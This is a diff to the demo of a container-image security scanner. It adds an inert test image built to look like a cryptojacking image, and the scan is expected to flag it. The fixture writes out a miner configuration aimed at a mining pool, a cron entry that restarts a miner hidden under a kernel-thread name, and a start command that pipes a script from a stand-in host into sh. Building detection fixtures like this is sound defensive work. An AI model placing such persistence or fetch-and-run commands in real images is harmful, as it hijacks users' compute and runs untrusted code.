@@ -45,6 +45,46 @@ fn app_layer() -> LayerSpec {
 }
 
 /// Runs the demo; exit 0 when both verdicts are the expected ones.
+/// An image shaped like the cryptojacking images found on public registries: a miner
+/// configuration under a hidden directory, a cron entry that restarts the miner from /tmp
+/// under a kernel-thread name, and a start command that downloads and runs a script. Inert
+/// text written for the demo: there is no miner binary, and the address is documentation
+/// space (RFC 5737).
+fn miner_image() -> ImageSpec {
+    let config = br#"{
+  "autosave": true,
+  "cpu": { "enabled": true, "max-threads-hint": 90 },
+  "donate-level": 0,
+  "pools": [
+    { "url": "stratum+tcp://pool.supportxmr.com:3333", "user": "worker-demo", "pass": "x", "keepalive": true }
+  ]
+}
+"#;
+    ImageSpec::new(vec![
+        app_layer(),
+        LayerSpec {
+            entries: vec![
+                Entry::Dir {
+                    path: "etc/.sys".into(),
+                    mode: 0o755,
+                },
+                Entry::file("etc/.sys/config.json", config.to_vec()),
+                Entry::Dir {
+                    path: "etc/cron.d".into(),
+                    mode: 0o755,
+                },
+                Entry::file(
+                    "etc/cron.d/sysupdate",
+                    b"* * * * * root /tmp/.x/kworker -c /etc/.sys/config.json\n".to_vec(),
+                ),
+            ],
+            compression: Compression::Gzip,
+            created_by: Some("COPY sys/ /etc/ # demo".into()),
+        },
+    ])
+    .cmd(&["sh", "-c", "curl -s http://203.0.113.7/x.sh | sh"])
+}
+
 pub fn run(args: DemoArgs) -> Result<u8> {
     let tmp = tempfile::tempdir().context("can not create a temporary directory")?;
     let root = args
@@ -53,7 +93,8 @@ pub fn run(args: DemoArgs) -> Result<u8> {
         .unwrap_or_else(|| tmp.path().to_path_buf());
     let clean_dir = root.join("clean");
     let eicar_dir = root.join("eicar");
-    for d in [&clean_dir, &eicar_dir] {
+    let miner_dir = root.join("miner");
+    for d in [&clean_dir, &eicar_dir, &miner_dir] {
         std::fs::create_dir_all(d).with_context(|| format!("can not create `{}`", d.display()))?;
     }
     let clean = ImageSpec::new(vec![app_layer()]);
@@ -72,31 +113,37 @@ pub fn run(args: DemoArgs) -> Result<u8> {
             created_by: Some("RUN rm /app/eicar.com # demo".into()),
         },
     ]);
+    fixtures::write_oci_layout(&miner_dir, &[("demo", &miner_image())])
+        .context("can not write the miner sample image")?;
     fixtures::write_oci_layout(&clean_dir, &[("demo", &clean)])
         .context("can not write the clean sample image")?;
     fixtures::write_oci_layout(&eicar_dir, &[("demo", &eicar)])
         .context("can not write the EICAR sample image")?;
     eprintln!(
-        "customs demo: scanning two sample images built in {} (a clean one, and one whose \
-         EICAR test file is deleted by a later layer)",
+        "customs demo: scanning three sample images built in {}: a clean one, one whose \
+         EICAR test file is deleted by a later layer, and one set up like a cryptojacking image \
+         (miner configuration, cron persistence, a start command that fetches a script)",
         root.display()
     );
-    let code = scan::run(ScanArgs::for_demo(
-        vec![
-            format!("oci:{}:demo", clean_dir.display()),
-            format!("oci:{}:demo", eicar_dir.display()),
-        ],
-        args.format,
-    ))?;
-    // The EICAR image must fail the gate (exit 1); anything else means the gate is broken.
-    if code == 1 {
+    // One scan per image, so each image's own exit code is checked.
+    let mut codes = Vec::new();
+    for (i, dir) in [&clean_dir, &eicar_dir, &miner_dir].into_iter().enumerate() {
+        if i > 0 && matches!(args.format, Format::Table) {
+            println!();
+        }
+        codes.push(scan::run(ScanArgs::for_demo(
+            vec![format!("oci:{}:demo", dir.display())],
+            args.format,
+        ))?);
+    }
+    if codes == [0, 1, 1] {
         eprintln!(
-            "customs demo: as expected, the clean image passed and the EICAR image failed the gate."
+            "customs demo: as expected, the clean image passed and the EICAR and miner images failed the gate."
         );
         Ok(0)
     } else {
         eprintln!(
-            "customs demo: UNEXPECTED exit code {code} from the scan: the gate is not working."
+            "customs demo: UNEXPECTED exit codes {codes:?} (clean, EICAR, miner; expected [0, 1, 1]): the gate is not working."
         );
         Ok(2)
     }
